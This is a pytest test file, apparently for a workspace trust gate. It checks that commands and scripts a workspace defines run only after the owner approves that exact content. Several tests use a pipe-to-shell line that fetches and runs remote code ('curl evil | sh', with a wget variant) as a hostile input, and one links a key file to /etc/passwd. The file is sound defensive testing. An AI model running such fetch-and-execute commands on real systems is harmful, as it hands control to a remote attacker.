"""Trust: nothing that a workspace defines runs before its owner approved exactly that, at that place."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from jobs.key_trust import BEGUN, came_of
from jobs.signing import DEFAULT_KEY, fingerprint, public_key
from jobs.trust import NotTrusted, TrustFile, definitions_of
from jobs.workspace import Workspace, init_workspace, open_workspace
from store.clock import CountingTokens, FakeClock, SystemClock, add_seconds, parse_time
from store.errors import WrongInput

HOSTILE = "targets:\n  - {nome: producao, smoke: [sh, -c, 'curl evil | sh']}\n"


def shop(tmp_path: Path, config: str = "", name: str = "shop") -> Workspace:
    paths = init_workspace(tmp_path / name, CountingTokens())
    paths.config.write_text("id: t1\n" + config)
    return open_workspace(paths.root)


def approve(file: TrustFile, workspace: Workspace) -> None:
    seen = file.check(workspace.paths, workspace.config)
    file.approve(workspace.paths, workspace.config, FakeClock(), seen)


def check(file: TrustFile, workspace: Workspace) -> bool:
    return file.check(workspace.paths, workspace.config).trusted


@pytest.fixture
def file(tmp_path: Path) -> TrustFile:
    return TrustFile(tmp_path / "state" / "oficina" / "trust.json")


def test_a_workspace_that_defines_nothing_has_nothing_to_approve(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, "fuso: UTC\n")
    (workspace.paths.root / "pricing.yaml").write_text("versao: x")
    trust = file.check(workspace.paths, workspace.config)
    assert trust.trusted
    assert trust.definitions == []
    trust.require(workspace.paths.root)


def test_a_command_is_asked_about_and_then_trusted(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, HOSTILE)
    trust = file.check(workspace.paths, workspace.config)
    assert not trust.trusted
    assert any("curl evil | sh" in line for line in trust.difference)
    with pytest.raises(NotTrusted) as caught:
        trust.require(workspace.paths.root)
    assert caught.value.exit_code == 2
    assert str(caught.value) == (
        f"{workspace.paths.root} is not trusted yet: it defines oficina.yaml: target producao"
        " (look at what it defines and approve it with `oficina trust`)"
    )
    approve(file, workspace)
    assert check(file, workspace)
    assert file.check(workspace.paths, workspace.config).difference == []
    assert file.path.stat().st_mode & 0o777 == 0o600
    assert file.path.parent.stat().st_mode & 0o777 == 0o700


def test_a_change_is_shown_as_a_difference_and_asked_again(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, HOSTILE)
    approve(file, workspace)
    workspace.paths.config.write_text("id: t1\n" + HOSTILE.replace("curl", "wget"))
    changed = open_workspace(workspace.paths.root)
    trust = file.check(changed.paths, changed.config)
    assert not trust.trusted
    assert '-  "curl evil | sh"' in trust.difference
    assert '+  "wget evil | sh"' in trust.difference


def test_taking_a_definition_away_needs_no_approval(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, HOSTILE)
    approve(file, workspace)
    workspace.paths.config.write_text("id: t1\n")
    assert check(file, open_workspace(workspace.paths.root))


@pytest.mark.parametrize("name", ["actors.yaml", "contracts.yaml", "policy.yaml"])
def test_taking_away_what_holds_something_back_is_asked_about(
    tmp_path: Path, file: TrustFile, name: str
) -> None:
    workspace = shop(tmp_path)
    (workspace.paths.root / name).write_text("x: 1")
    approve(file, workspace)
    (workspace.paths.root / name).rename(tmp_path / "gone")
    seen = file.check(workspace.paths, workspace.config)
    assert not seen.trusted
    assert "-x: 1" in seen.difference
    with pytest.raises(NotTrusted, match="it defines less than you approved"):
        seen.require(workspace.paths.root)
    approve(file, workspace)
    assert check(file, workspace)


@pytest.mark.parametrize("weaker", ["", "signing: {required: false}\n", "signing: {key: /k.pem}\n"])
def test_signing_less_is_asked_about(tmp_path: Path, file: TrustFile, weaker: str) -> None:
    workspace = shop(tmp_path, "signing: {required: true, key: /k.pem}\n")
    assert not check(file, workspace)
    approve(file, workspace)
    assert check(file, workspace)
    workspace.paths.config.write_text("id: t1\n" + weaker)
    assert not check(file, open_workspace(workspace.paths.root))


@pytest.mark.skipif(shutil.which("openssl") is None, reason="signs with openssl")
def test_another_signing_key_in_the_same_place_is_asked_about(tmp_path: Path, file: TrustFile) -> None:
    key = tmp_path / "key.pem"
    words = ["openssl", "genpkey", "-algorithm", "ed25519", "-out", str(key)]
    subprocess.run(words, check=True, capture_output=True)
    key.chmod(0o600)
    workspace = shop(tmp_path, f"signing: {{key: {key}}}\n")
    (shown,) = definitions_of(workspace.paths, workspace.config)
    assert json.loads(shown.text)["impressao"] == fingerprint(public_key(key, tmp_path))
    approve(file, workspace)
    assert check(file, workspace)
    subprocess.run(words, check=True, capture_output=True)
    assert not check(file, workspace)


@pytest.mark.parametrize("linked", ["tools", "tools/sub", "tools/look.sh"])
@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("actors", "Eco: {comandos: {a: {argv: [sh, '{workspace}/tools/look.sh'], leitura: [tools]}}}"),
        (
            "capabilities",
            "capacidades: {a: {descricao: a, sonda: [sh, tools/look.sh], instalar: [x, tools]}}",
        ),
    ],
)
def test_what_a_link_leads_to_cannot_be_approved(
    tmp_path: Path, file: TrustFile, linked: str, name: str, text: str
) -> None:
    workspace = shop(tmp_path)
    root = workspace.paths.root
    (root / "tools" / "sub").mkdir(parents=True)
    (root / "tools" / "look.sh").write_text("true")
    (root / f"{name}.yaml").write_text(text)
    (root / linked).rename(root / "real")
    (root / linked).symlink_to(root / "real")
    seen = file.check(workspace.paths, workspace.config)
    with pytest.raises(WrongInput, match=r"it can't be approved: .* link"):
        file.approve(workspace.paths, workspace.config, FakeClock(), seen)
    assert not check(file, workspace)


def test_a_script_that_is_named_relatively_is_approved_with_its_content(
    tmp_path: Path, file: TrustFile
) -> None:
    workspace = shop(tmp_path)
    root = workspace.paths.root
    text = "capacidades: {a: {descricao: a, sonda: [sh, big.sh], instalar: [test, -e, made]}}"
    (root / "capabilities.yaml").write_text(text)
    (root / "big.sh").write_text("true")
    approve(file, workspace)
    (root / "made").touch()
    assert check(file, workspace), "what is only looked at may come"
    (root / "big.sh").write_text("curl evil | sh")
    seen = file.check(workspace.paths, workspace.config)
    assert not seen.trusted
    assert "+curl evil | sh" in seen.difference


def test_a_copy_elsewhere_or_with_another_id_is_not_trusted(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, HOSTILE)
    approve(file, workspace)
    assert not check(file, shop(tmp_path, HOSTILE, "clone"))
    workspace.paths.config.write_text("id: t2\n" + HOSTILE)
    assert not check(file, open_workspace(workspace.paths.root))


def test_only_what_was_seen_is_approved(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, HOSTILE)
    seen = file.check(workspace.paths, workspace.config)
    workspace.paths.config.write_text("id: t1\n" + HOSTILE.replace("curl", "wget"))
    swapped = open_workspace(workspace.paths.root)
    file.approve(swapped.paths, swapped.config, FakeClock(), seen)
    assert not check(file, swapped)


@pytest.mark.parametrize("name", ["actors", "capabilities", "contracts", "policy"])
def test_files_that_run_or_decide_are_definitions(tmp_path: Path, file: TrustFile, name: str) -> None:
    workspace = shop(tmp_path)
    (workspace.paths.root / f"{name}.yaml").write_bytes(b"x: \x1b[31m\xff")
    trust = file.check(workspace.paths, workspace.config)
    assert [definition.name for definition in trust.definitions] == [f"{name}.yaml"]
    assert len(trust.definitions[0].sha256) == 64
    assert all(line.isprintable() for line in trust.difference)
    assert not trust.trusted


@pytest.mark.parametrize(
    ("config", "names"),
    [
        ("targets: [{nome: a, rede: true}]\n", ["oficina.yaml: target a"]),
        ("targets: [{nome: a, dir: /srv}]\n", ["oficina.yaml: target a"]),
        ("targets: [{nome: a, dir: .oficina/../x}]\n", ["oficina.yaml: target a"]),
        ("targets: [{nome: a}]\n", []),
        ("secrets: {T: {file: /home/me/.ssh/id}}\n", ["oficina.yaml: secret T"]),
        ("sandbox: {below_full: all}\n", ["oficina.yaml: sandbox"]),
        ("sandbox: {below_full: none}\n", []),
        ("politica: rules/small.yaml\n", ["oficina.yaml: politica rules/small.yaml"]),
    ],
)
def test_what_of_the_configuration_is_a_definition(tmp_path: Path, config: str, names: list[str]) -> None:
    rules = tmp_path / "shop" / "rules" / "small.yaml"
    rules.parent.mkdir(parents=True)
    rules.write_text("regras: []")
    workspace = shop(tmp_path, config)
    assert [each.name for each in definitions_of(workspace.paths, workspace.config)] == names


def test_switching_a_policy_on_is_asked_about_and_so_is_every_change(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path)
    rules = workspace.paths.root / "policy.yaml"
    rules.write_text("regras: []")
    approve(file, workspace)
    workspace.paths.config.write_text("id: t1\npolitica: policy.yaml\n")
    switched_on = open_workspace(workspace.paths.root)
    assert not check(file, switched_on), "that the file is known says nothing about its being used"
    approve(file, switched_on)
    assert check(file, switched_on)
    rules.write_text("regras: [{nome: tudo, tipo: aprovar_orcamento, opcao: aprovar}]")
    assert not check(file, switched_on)


@pytest.mark.parametrize("content", ["not json", "[]", '{"%s": 3}', '{"%s": {"id": "t1", "definicoes": 3}}'])
def test_a_damaged_record_approves_nothing(tmp_path: Path, file: TrustFile, content: str) -> None:
    workspace = shop(tmp_path, HOSTILE)
    approve(file, workspace)
    file.path.write_text(content.replace("%s", str(workspace.paths.root)))
    assert not check(file, workspace)
    approve(file, workspace)
    assert check(file, workspace)


def test_a_record_that_others_can_write_approves_nothing(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path, HOSTILE)
    approve(file, workspace)
    file.path.chmod(0o622)
    assert not check(file, workspace)
    file.path.chmod(0o600)
    target = file.path.rename(tmp_path / "planted.json")
    file.path.symlink_to(target)
    assert not check(file, workspace)


def test_the_record_is_whole_or_not_at_all(
    tmp_path: Path, file: TrustFile, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace = shop(tmp_path, HOSTILE)
    approve(file, workspace)
    before = file.path.read_text()

    def full(_descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("jobs.trust.os.fsync", full)
    with pytest.raises(OSError, match="No space"):
        approve(file, workspace)
    assert file.path.read_text() == before
    assert [each.name for each in file.path.parent.iterdir()] == ["trust.json"]


def test_where_the_record_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert TrustFile.default({"XDG_STATE_HOME": "/state"}).path == Path("/state/oficina/trust.json")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    home = tmp_path / ".local" / "state" / "oficina" / "trust.json"
    assert TrustFile.default().path == home
    assert TrustFile.default({"XDG_STATE_HOME": "relative"}).path == home


def test_other_workspaces_keep_their_approvals(tmp_path: Path, file: TrustFile) -> None:
    one, two = shop(tmp_path, HOSTILE), shop(tmp_path, HOSTILE, "two")
    approve(file, one)
    approve(file, two)
    assert check(file, one)
    assert len(json.loads(file.path.read_text())) == 2


def test_a_signing_key_that_nobody_made_here_is_asked_about(tmp_path: Path, file: TrustFile) -> None:
    workspace = shop(tmp_path)
    key = workspace.paths.root / "chaves" / "assinatura.pem"
    key.parent.mkdir()
    key.write_text("-----BEGIN PRIVATE KEY-----\n")
    key.chmod(0o600)
    seen = file.check(workspace.paths, workspace.config)
    assert (seen.trusted, [each.name for each in seen.definitions]) == (False, ["chaves/assinatura.pem"])
    assert "BEGIN" not in "".join(seen.difference)
    approve(file, workspace)
    assert check(file, workspace)
    key.write_text("-----BEGIN PRIVATE KEY-----\nof somebody else\n")
    assert not check(file, workspace)
    file.key_made(workspace.paths, workspace.config, FakeClock())
    assert check(file, workspace)
    key.unlink()
    key.symlink_to("/etc/passwd")
    assert check(file, workspace), "signing refuses a link by itself"


KEY = "-----BEGIN PRIVATE KEY-----\n"


def key_in(workspace: Workspace, text: str = KEY) -> Path:
    workspace.paths.dot.mkdir(exist_ok=True)
    key = workspace.paths.root / "chaves" / "assinatura.pem"
    key.parent.mkdir(exist_ok=True)
    key.write_text(text)
    key.chmod(0o600)
    return key


def test_a_key_is_approved_where_the_line_died_before_it_could_say_that_it_made_it(
    tmp_path: Path, file: TrustFile
) -> None:
    workspace = shop(tmp_path)
    paths, config, clock = workspace.paths, workspace.config, SystemClock()
    file.key_begun(paths, config, clock, 30.0)
    assert check(file, workspace)
    key = key_in(workspace)
    seen = file.check(paths, config)
    assert (seen.trusted, seen.difference) == (True, [])
    file.key_begun(paths, config, clock, 30.0)
    assert DEFAULT_KEY in file.path.read_text(), "on record, once the line is at it again"
    assert BEGUN not in file.path.read_text()
    key.write_text("-----BEGIN PRIVATE KEY-----\nof somebody else\n")
    assert not check(file, workspace)


@pytest.mark.parametrize("began_s_ago", [3600.0, -3600.0])
def test_a_key_that_came_at_another_time_than_its_command_is_asked_about(
    tmp_path: Path, file: TrustFile, began_s_ago: float
) -> None:
    workspace = shop(tmp_path)
    clock = FakeClock(add_seconds(SystemClock().now(), -began_s_ago))
    file.key_begun(workspace.paths, workspace.config, clock, 30.0)
    key = key_in(workspace)
    when = parse_time(clock.now()).timestamp()
    os.utime(key, (when, when))
    seen = file.check(workspace.paths, workspace.config)
    assert not seen.trusted
    assert not [line for line in seen.difference if BEGUN in line]


def test_a_key_that_comes_after_its_command_has_failed_is_asked_about(
    tmp_path: Path, file: TrustFile
) -> None:
    workspace = shop(tmp_path)
    paths, config, clock = workspace.paths, workspace.config, SystemClock()
    file.key_begun(paths, config, clock, 30.0)
    file.key_made(paths, config, clock, made=False)
    key_in(workspace)
    assert not check(file, workspace)


def test_a_key_in_an_approved_one_s_place_is_not_approved_by_another_command(
    tmp_path: Path, file: TrustFile
) -> None:
    workspace = shop(tmp_path)
    paths, config, clock = workspace.paths, workspace.config, SystemClock()
    file.key_begun(paths, config, clock, 30.0)
    key = key_in(workspace)
    file.key_begun(paths, config, clock, 30.0)
    key.write_text("-----BEGIN PRIVATE KEY-----\nof somebody else\n")
    file.key_begun(paths, config, clock, 30.0)
    assert not check(file, workspace)


@pytest.mark.parametrize("record", ["", "[]", "{", '{"store": 1}', '{"store": "x", "from": "a", "to": "b"}'])
def test_a_damaged_record_approves_no_key(tmp_path: Path, record: str) -> None:
    workspace = shop(tmp_path)
    key_in(workspace)
    assert not came_of(record, workspace.paths)


def test_a_store_that_was_removed_while_a_key_was_being_made_is_no_error(
    tmp_path: Path, file: TrustFile
) -> None:
    workspace = shop(tmp_path)
    file.key_begun(workspace.paths, workspace.config, SystemClock(), 30.0)
    key_in(workspace)
    shutil.rmtree(workspace.paths.dot)
    assert not check(file, workspace)
